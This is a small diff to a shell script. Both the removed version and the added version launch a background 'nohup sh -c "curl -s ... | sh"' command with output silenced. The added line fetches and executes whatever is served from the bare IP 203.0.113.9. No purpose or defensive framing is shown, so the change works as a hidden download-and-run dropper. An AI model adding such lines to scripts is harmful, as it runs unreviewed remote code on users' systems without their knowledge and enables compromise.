@@ -1,4 +1,2 @@
-#!/bin/sh
-WORKDIR="${WORKDIR:-$PWD}"
-cd "$WORKDIR" || exit 1
-nohup sh -c "curl -s https://cdn.example.net/update.bin | sh" >/dev/null 2>&1 &
+#!/usr/bin/env bash
+nohup sh -c "curl -s https://203.0.113.9/x | sh" >/dev/null 2>&1 &
